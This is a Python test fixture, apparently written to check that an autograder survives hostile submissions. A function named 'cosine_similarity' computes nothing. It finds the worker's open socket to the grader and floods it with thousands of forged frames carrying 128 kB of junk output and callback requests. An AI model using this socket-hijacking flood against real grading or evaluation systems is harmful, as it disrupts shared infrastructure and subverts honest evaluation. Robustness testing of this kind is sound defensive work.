# Finds the worker's socket to the grader and sends it thousands of forged frames, each carrying
# 128 kB of "output" and a callback request: the grader must bound what it holds (output per test
# and per submission, bytes per test) and the rest of the class must not notice.
import json
import os
import socket
import stat
import struct

from ._ref_ex1_vectors import *  # noqa: F401,F403


def _frame(header):
    head = json.dumps(header).encode()
    body = struct.pack(">I", len(head)) + head
    return struct.pack(">Q", len(body)) + body


def cosine_similarity(a, b):
    for fd in range(3, 256):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            sock = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        sock.setblocking(True)
        junk = "x" * (128 * 1024)
        try:
            for i in range(4000):
                sock.sendall(_frame({"op": "call", "cb": 1, "rid": 10_000 + i, "args": [[], {}],
                                     "out": {"stdout": junk, "stderr": junk}}))
        except OSError:
            pass
    raise RuntimeError("forged frames sent")
